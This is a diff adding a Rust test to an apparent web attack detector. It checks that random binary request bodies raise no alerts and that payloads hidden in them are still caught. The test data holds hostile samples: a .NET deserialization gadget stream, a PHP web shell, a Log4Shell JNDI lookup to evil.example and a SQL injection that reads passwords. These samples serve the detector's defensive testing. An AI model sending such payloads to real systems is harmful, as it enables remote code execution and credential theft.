@@ -1072,3 +1072,75 @@ fn authorization_judged_when_malformed() {
         assert_eq!(auth(value), vec![], "{value:?}");
     }
 }
+
+/// A POST of `body` as raw bytes, with a Content-Type when `ctype` has one.
+fn post_bytes(ctype: &str, body: &[u8]) -> Vec<u8> {
+    let ctype = if ctype.is_empty() {
+        String::new()
+    } else {
+        format!("Content-Type: {ctype}\r\n")
+    };
+    let mut req = format!(
+        "POST /api/v2/sync HTTP/1.1\r\nHost: app\r\n{ctype}Content-Length: {}\r\n\r\n",
+        body.len()
+    )
+    .into_bytes();
+    req.extend_from_slice(body);
+    req
+}
+
+/// A body of unknown type that is not text (msgpack, protobuf, an octet
+/// stream) is judged as an uploaded file: random bytes raise nothing,
+/// while what a file may carry is still found in it, and a text body of
+/// unknown type is still judged as a value.
+#[test]
+fn binary_bodies_of_unknown_type_are_judged_as_files() {
+    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
+    let mut next = move || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        state
+    };
+    let types = [
+        "application/octet-stream",
+        "application/x-msgpack",
+        "application/x-protobuf",
+        "",
+    ];
+    let mut binary = 0;
+    for i in 0..200 {
+        let len = 16 + (next() % 400) as usize;
+        let mut body: Vec<u8> = (0..len).map(|_| next() as u8).collect();
+        // Half of them text-like bytes with a NUL (msgpack strings and
+        // protobuf fields are mostly text); the rest random bytes.
+        if i % 2 == 0 {
+            for b in &mut body {
+                *b = b' ' + *b % 95;
+            }
+            if let Some(b) = body.get_mut(len / 2) {
+                *b = 0;
+            }
+        }
+        binary += usize::from(points::binary(&String::from_utf8_lossy(&body)));
+        let ctype = types.get(i % types.len()).copied().unwrap_or("");
+        let got = found(&post_bytes(ctype, &body));
+        assert_eq!(got, vec![], "{ctype} {body:?}");
+    }
+    assert_eq!(binary, 200, "every body is binary");
+    // Still found: what a file carries.
+    for (body, class) in [
+        // A .NET BinaryFormatter stream with its gadget's class name.
+        (&b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x0c\x02System.Windows.Data.ObjectDataProvider\x00\x05"[..], "deser"),
+        (&b"\x82\xa4data\xc4\x10\x00\x01<?php system($_GET['c']); ?>"[..], "php"),
+        (&b"\x0a\x05\x00\x01${jndi:ldap://evil.example/a}\x12\x00"[..], "log4shell"),
+    ] {
+        let got = found(&post_bytes("application/x-msgpack", body));
+        assert!(got.iter().any(|(c, p)| c == class && p == "body.raw"), "{body:?}: {got:?}");
+    }
+    // Still found: a text body of unknown type.
+    for ctype in ["application/octet-stream", "text/plain", ""] {
+        let got = found(&post_bytes(ctype, b"' union select password from users--"));
+        assert!(got.iter().any(|(c, _)| c == "sqli"), "{ctype}: {got:?}");
+    }
+}
